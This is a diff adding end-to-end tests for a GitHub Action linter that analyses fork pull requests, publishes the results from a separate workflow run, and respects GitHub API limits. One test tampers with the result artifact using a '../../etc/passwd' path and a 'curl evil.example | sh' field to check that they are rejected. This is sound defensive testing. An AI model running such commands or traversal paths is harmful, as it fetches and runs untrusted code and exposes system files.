@@ -18,6 +18,7 @@ import {
   startApi,
   TOKEN,
   patchOf,
+  workflowRunPayload,
   type ApiBehaviour,
   type FakeApi,
   type Files,
@@ -432,5 +433,147 @@ describe('suggested fixes', () => {
     expect(result.code).toBe(1);
     expect(requests.filter((r) => r.path.includes('/reviews') || r.path.includes('/comments'))).toEqual([]);
     expect(result.summary).toContain('<details><summary>Fixes for new findings (2 findings) as a patch');
+  });
+});
+
+describe('full results for forks: mode analyse, then publish', () => {
+  it('analyses without writing through the API, then publishes the artifact; a tampered artifact is rejected with a clear error', async () => {
+    const repo = makeRepo(BASE_DOC, TYPO_AND_UNSORTED);
+    api = await startApi({ pull: { headSha: repo.headSha }, pullFiles: filesOf(repo, BASE_DOC, TYPO_AND_UNSORTED) });
+    // The fork's run: a read-only token; mode analyse writes the artifact and makes no writing call.
+    const analysed = checked(await runAction({ repo, api, event: 'pull_request', payload: pullRequestPayload(repo, { fork: true }), inputs: { mode: 'analyse' } }));
+    expect(analysed.code).toBe(1);
+    expect(writes(api.requests)).toEqual([]);
+    const artifact = readFileSync(join(repo.dir, 'support-table-lint-result.json'), 'utf8');
+    expect(JSON.parse(artifact)).toMatchObject({ kind: 'support-table-lint-result', headSha: repo.headSha, pullRequest: { number: 7 }, suggestions: [{ path: DOC, line: KVM_LINE }] });
+
+    // The workflow_run run: a fresh workspace holding only the downloaded artifact; nothing of the PR is checked out.
+    const publishDir = mkdtempSync(join(tmpdir(), 'stl-e2e-publish-'));
+    writeFileSync(join(publishDir, 'support-table-lint-result.json'), artifact);
+    const before = api.requests.length;
+    const published = checked(
+      await runAction({ repo: { ...repo, dir: publishDir }, api, event: 'workflow_run', payload: workflowRunPayload(repo), inputs: { mode: 'publish' }, sha: repo.baseSha }),
+    );
+    expect(published.code).toBe(0); // the analysing run is the one that fails
+    const sent = api.requests.slice(before);
+    const run = sent.find((r) => r.method === 'POST' && r.path.endsWith('/check-runs'));
+    expect(run?.body).toMatchObject({ head_sha: repo.headSha, conclusion: 'failure', output: { annotations: [{ path: DOC, start_line: KVM_LINE }, { path: DOC }] } });
+    expect(reviews(sent)).toHaveLength(1);
+    expect(reviews(sent)[0]?.body).toMatchObject({ commit_id: repo.headSha, comments: [{ path: DOC, line: KVM_LINE }] });
+    expect(published.summary).toContain('**1 new error and 1 new warning**');
+    expect(commands(published.stdout, 'error')).toEqual([]); // no annotations on the publishing run
+    expect(published.outputs).toMatchObject({ errors: '1', warnings: '1' });
+
+    // Tampered: a path out of the repository, a commit that was not analysed, a field nobody knows.
+    const tamper = async (change: (data: Record<string, unknown>) => void) => {
+      const data = JSON.parse(artifact) as Record<string, unknown>;
+      change(data);
+      writeFileSync(join(publishDir, 'support-table-lint-result.json'), JSON.stringify(data));
+      const at = api!.requests.length;
+      const outcome = checked(await runAction({ repo: { ...repo, dir: publishDir }, api: api!, event: 'workflow_run', payload: workflowRunPayload(repo), inputs: { mode: 'publish' } }));
+      expect(outcome.code).toBe(1);
+      expect(writes(api!.requests.slice(at))).toEqual([]);
+      return commands(outcome.stdout, 'error').map((e) => e.message);
+    };
+    expect(await tamper((d) => ((d['gating'] as { file: string }[])[0]!.file = '../../etc/passwd'))).toEqual([
+      'support-table-lint: The artifact support-table-lint-result.json (input `artifact`) is not a support-table-lint result: /gating/0/file: must be a path inside the repository (relative, without `..`)',
+    ]);
+    expect(await tamper((d) => (d['headSha'] = 'f'.repeat(40)))).toEqual([
+      `support-table-lint: The artifact support-table-lint-result.json is for commit ffffffffffff, but the workflow run it should come from analysed ${repo.headSha.slice(0, 12)}; download the artifact of \`github.event.workflow_run.id\`.`,
+    ]);
+    expect(await tamper((d) => (d['run'] = 'curl evil.example | sh'))).toEqual([
+      'support-table-lint: The artifact support-table-lint-result.json (input `artifact`) is not a support-table-lint result: /: unknown field "run"',
+    ]);
+    expect(await tamper((d) => ((d['notices'] as string[]).push('x'.repeat(70 * 1024))))).toEqual([
+      'support-table-lint: The artifact support-table-lint-result.json (input `artifact`) is not a support-table-lint result: /notices/0: must NOT have more than 65536 characters',
+    ]);
+  });
+
+  it('says what to do when publish runs on the wrong event or without the artifact', async () => {
+    const repo = makeRepo(BASE_DOC, TYPO_AND_UNSORTED);
+    api = await startApi({});
+    const wrongEvent = checked(await runAction({ repo, api, event: 'pull_request', payload: pullRequestPayload(repo), inputs: { mode: 'publish' } }));
+    expect(commands(wrongEvent.stdout, 'error').map((e) => e.message)).toEqual([
+      'support-table-lint: mode: publish runs in a workflow triggered by `workflow_run` (this run was triggered by `pull_request`); see "Full results for pull requests from forks" in the README.',
+    ]);
+    const missing = checked(await runAction({ repo, api, event: 'workflow_run', payload: workflowRunPayload(repo), inputs: { mode: 'publish' } }));
+    expect(missing.code).toBe(1);
+    expect(commands(missing.stdout, 'error')[0]?.message).toMatch(/^support-table-lint: The artifact support-table-lint-result\.json \(input `artifact`\) does not exist\. Download/);
+    expect(writes(api.requests)).toEqual([]);
+  });
+});
+
+describe("GitHub's limits", () => {
+  it('300 findings with 5 KB cells: every limit reached, no request GitHub would reject, nothing lost', async () => {
+    const rows = Array.from({ length: 300 }, (_, i) => `Gate${String(i).padStart(3, '0')} | ${'x'.repeat(5 * 1024)} | SUPPORTED`);
+    const { repo, result, requests } = await pr(BASE_DOC, { 'docs/big.md': gates(rows, []) }, {}, { 'report-file': 'out/report.json' });
+    expect(result.code).toBe(1);
+    expect(result.outputs).toMatchObject({ errors: '300', 'report-file': 'out/report.json' });
+    // The JSON report holds all 300.
+    const report = JSON.parse(readFileSync(join(repo.dir, 'out/report.json'), 'utf8')) as { violations: { message: string }[] };
+    expect(report.violations).toHaveLength(300);
+    expect(report.violations.every((v) => v.message.includes('x'.repeat(5 * 1024)))).toBe(true);
+    // Check run: 50 annotations per request, output.summary cut to 65,535 characters with a count.
+    const runs = requests.filter((r) => r.path.includes('/check-runs'));
+    const outputs = runs.map((r) => (r.body as { output: { summary: string; annotations: unknown[] } }).output);
+    expect(outputs.map((o) => o.annotations.length)).toEqual([50, 50, 50, 50, 50, 50]);
+    for (const o of outputs) expect(o.summary.length).toBeLessThanOrEqual(65_535);
+    expect(outputs.at(-1)!.summary).toMatch(/_\d+ of 300 rows left out to stay under GitHub's size limit; the report file `out\/report\.json` holds every finding\._/);
+    // Job summary: under 1 MiB, with a count and where the rest are.
+    expect(Buffer.byteLength(result.summary)).toBeLessThanOrEqual(1024 * 1024);
+    const shown = (result.summary.match(/^\| error \|/gm) ?? []).length;
+    expect(shown).toBeLessThan(300);
+    expect(result.summary).toContain(`_${300 - shown} of 300 rows left out to stay under GitHub's size limit; the report file \`out/report.json\` holds every finding._`);
+    // Annotations: 10 errors, then one notice saying how many more and where.
+    expect(commands(result.stdout, 'error').filter((e) => e.props['file'])).toHaveLength(10);
+    expect(commands(result.stdout, 'notice').at(-1)?.message).toBe(
+      '290 more findings are not shown as annotations (GitHub shows at most 10 errors and 10 warnings per step); see the report file out/report.json and the support-table-lint check run.',
+    );
+  });
+
+  it('cuts a 70 KB cell to GitHub\'s 64 KB annotation message, visibly', async () => {
+    const { result, requests } = await pr(BASE_DOC, { 'docs/huge.md': gates([`HugeGate | ${'é'.repeat(35 * 1024)} | SUPPORTED`], []) });
+    expect(result.code).toBe(1);
+    const annotation = (requests.find((r) => r.path.endsWith('/check-runs'))!.body as { output: { annotations: { message: string }[] } }).output.annotations[0]!;
+    expect(Buffer.byteLength(annotation.message)).toBeLessThanOrEqual(64 * 1024);
+    expect(annotation.message).toMatch(/… \d+ more characters$/);
+    const logged = commands(result.stdout, 'error').find((e) => e.props['file'] === 'docs/huge.md')!;
+    expect(Buffer.byteLength(logged.message)).toBeLessThanOrEqual(64 * 1024);
+    expect(logged.message).toMatch(/… \d+ more characters$/);
+  });
+
+  it('keeps output.summary under 65,535 characters when the PR changes 400 schemas with long paths', async () => {
+    const dir = `schemas/${'nested-folder-with-a-long-name/'.repeat(5)}`;
+    const names = Array.from({ length: 400 }, (_, i) => `${dir}support-table-schema-number-${String(i).padStart(3, '0')}.schema.json`);
+    const config = `tables:\n${names.map((n, i) => `  - files: ["docs/t${i}.md"]\n    schema: ${n}\n`).join('')}`;
+    const schema = (title: string) => JSON.stringify({ type: 'object', title });
+    const base: Files = { '.github/support-table-lint.yml': config, ...Object.fromEntries(names.map((n) => [n, schema('base')])), [DOC]: gates(ROWS, NOTES) };
+    const head: Files = { ...Object.fromEntries(names.map((n) => [n, schema('head')])), [DOC]: gates(ROWS.map((r) => r.replace('CpuGate | GA', 'CpuGate | Graduated')), NOTES) };
+    const { result, requests } = await pr(base, head);
+    const output = (requests.find((r) => r.path.endsWith('/check-runs'))!.body as { output: { summary: string } }).output;
+    expect(output.summary.length).toBeLessThanOrEqual(65_535);
+    expect(output.summary).toContain('This pull request changes');
+    expect(output.summary).toMatch(/… \d+ more characters/);
+    expect(commands(result.stdout, 'notice').find((n) => n.message.startsWith('This pull request changes'))!.message.length).toBeLessThanOrEqual(64 * 1024);
+  });
+
+  it('waits for Retry-After on a 429, then succeeds', async () => {
+    const secondary = { status: 429, headers: { 'retry-after': '1' }, body: { message: 'You have exceeded a secondary rate limit. Please wait a few minutes before you try again.' } };
+    const { result, requests } = await pr(BASE_DOC, { [DOC]: gates(SORTED, NOTES.slice(1)) }, { script: { 'POST check-runs': [secondary] } });
+    expect(result.code).toBe(1);
+    expect(requests.filter((r) => r.method === 'POST' && r.path.endsWith('/check-runs'))).toHaveLength(2);
+    expect(result.stdout).toMatch(/GitHub's secondary rate limit for POST .*\/check-runs: retrying in 1 s\./);
+    expect(commands(result.stdout, 'notice').filter((n) => n.message.includes('check run'))).toEqual([]);
+  });
+
+  it('names the missing permission on a 404 and the token on a 401', async () => {
+    const notFound = await pr(BASE_DOC, { [DOC]: gates(SORTED, NOTES.slice(1)) }, { script: { 'POST check-runs': [{ status: 404, body: { message: 'Not Found' } }] } });
+    expect(commands(notFound.result.stdout, 'notice').map((n) => n.message)).toContainEqual(
+      expect.stringContaining('No support-table-lint check run: the API failed (HTTP 404: Not Found; the token needs `checks: write`'),
+    );
+    const badToken = await pr(BASE_DOC, { [DOC]: gates(SORTED, NOTES.slice(1)) }, { script: { 'POST check-runs': [{ status: 401, body: { message: 'Bad credentials' } }] } });
+    expect(commands(badToken.result.stdout, 'notice').map((n) => n.message)).toContainEqual(
+      expect.stringContaining('HTTP 401: Bad credentials; the token (input `token`) is missing, expired or revoked'),
+    );
   });
 });
